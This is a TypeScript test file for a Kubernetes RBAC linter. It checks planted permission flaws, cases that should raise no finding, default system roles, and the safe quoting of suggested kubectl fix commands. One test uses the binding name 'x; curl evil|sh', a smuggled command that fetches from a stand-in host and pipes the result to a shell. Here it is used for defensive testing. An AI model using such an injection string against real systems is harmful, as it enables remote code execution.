import { describe, expect, it, test } from 'vitest'
import { withDefaultRoles } from '../defaults/with-default-roles.ts'
import type { BindingObject } from '../rbac-objects.ts'
import { lintRights } from './lint-rights.ts'
import { plantedFlaws as flaws } from './planted/planted-flaws.fixture.ts'
import { account, binding, group, role, user, type PlantedObject } from './planted/planted-flaw.fixture.ts'
import { bootstrapTokenType, tokenSecretType } from './token-secret-findings.ts'

const lint = (objects: readonly PlantedObject[]) => {
  const of = (...kinds: readonly string[]) => objects.filter(({ kind }) => kinds.includes(kind))
  const named = of('ServiceAccount').map(({ metadata: { name, namespace = '' } }) => ({ name, namespace }))
  return lintRights(
    {
      ...withDefaultRoles({
        roles: of('Role', 'ClusterRole'),
        bindings: of('RoleBinding', 'ClusterRoleBinding') as unknown as readonly BindingObject[],
      }),
      serviceAccounts: [...named, { namespace: 'shop', name: 'robot' }],
      tokenSecrets: of('Secret')
        .filter(({ type }) => type === tokenSecretType || type === bootstrapTokenType)
        .map(({ metadata: { name, namespace = '' }, type }) => ({
          name,
          namespace,
          account: type === tokenSecretType ? 'robot' : undefined,
          since: '',
        })),
    },
    { aggregation: 'computed' },
  ).findings
}

describe('planted flaws', () => {
  it('are more than 50, each with a source', () => {
    expect(flaws.length).toBeGreaterThanOrEqual(50)
    expect(new Set(flaws.map(({ finding: { object } }) => object)).size).toBe(flaws.length)
    for (const { source } of flaws) expect(source.length).toBeGreaterThan(6)
  })

  it.each(flaws.map((flaw) => [flaw.flaw, flaw] as const))('%s', (_name, { objects, finding }) => {
    const found = lint(objects)
    expect(found).toContainEqual(expect.objectContaining(finding))
    for (const { text, attack, fix } of found) for (const one of [text, attack, fix]) expect(one).toMatch(/\.$/)
  })

  it('are found together as well as alone', () => {
    const together = lint(flaws.flatMap(({ objects }) => objects))
    const isFound = ({ control, object }: (typeof flaws)[number]['finding']) =>
      together.some((one) => one.object === object && one.id.split('/')[0]?.split('+').includes(control))
    expect(flaws.filter(({ finding }) => !isFound(finding))).toEqual([])
  })
})

describe('no finding', () => {
  test.each<[string, readonly PlantedObject[]]>([
    ['view in one namespace', [binding('v', 'view', [group('oidc:dev')], 'shop')]],
    ['pods are listed', [role('r', ['get,list,watch pods,pods/log']), binding('r', 'r', [user('oidc:ann')])]],
    [
      'one Secret by name',
      [role('s', ['get secrets named door'], 'shop'), binding('s', 'Role/s', [account('shop/robot')], 'shop')],
    ],
    ['health and metrics', [role('h', ['get /healthz,/metrics']), binding('h', 'h', [account('shop/robot')])]],
    // Nodes and volumes are cluster-scoped: a RoleBinding grants nothing there.
    [
      'nodes through a RoleBinding',
      [
        role('n', ['create nodes/proxy,persistentvolumes', 'update nodes'], 'shop'),
        binding('n', 'Role/n', [user('oidc:ann')], 'shop'),
      ],
    ],
    ['a wildcard in a group of its own', [role('w', ['* *.example.com']), binding('w', 'w', [account('shop/robot')])]],
  ])('%s', (_name, objects) => {
    expect(lint(objects)).toEqual([])
  })
})

test("Kubernetes' own grants are no finding, but one additional rule is", () => {
  const known = binding('system:kube-scheduler', 'system:kube-scheduler', [user('system:kube-scheduler')])
  expect(lint([known])).toEqual([])
  expect(lint([known, role('system:kube-scheduler', ['get secrets'])])).toMatchObject([{ control: 'RB-05' }])
  expect(lint([{ ...known, subjects: [user('mallory')] }])).not.toEqual([])
})

test('a harmless addition to a role or binding of Kubernetes or kops is a finding of low severity', () => {
  const known = binding('system:coredns', 'system:coredns', [account('kube-system/coredns')])
  const written = role('system:coredns', ['list,watch endpoints,services,pods,namespaces'])
  expect(lint([known, written])).toEqual([])
  expect(
    lint([known, role('system:coredns', ['list,watch endpoints,services,pods,namespaces', 'get configmaps'])]),
  ).toMatchObject([{ control: 'RB-05', severity: 'low', object: 'ClusterRoleBinding/system:coredns' }])
  const more = { ...known, subjects: [account('kube-system/coredns'), user('oidc:ann')] }
  expect(lint([more, written])).toMatchObject([{ severity: 'low', id: expect.stringContaining('oidc:ann') as string }])
})

test.each([
  ['x; curl evil|sh', "`kubectl delete 'rolebinding/x; curl evil|sh' -n shop`"],
  ['--all', '`kubectl delete rolebinding/--all -n shop`'],
])('a command for a binding named %s is safe to copy', (name, command) => {
  const [found] = lint([binding(name, 'admin', [user('oidc:ann')], 'shop')])
  expect(found?.fix).toContain(command)
})
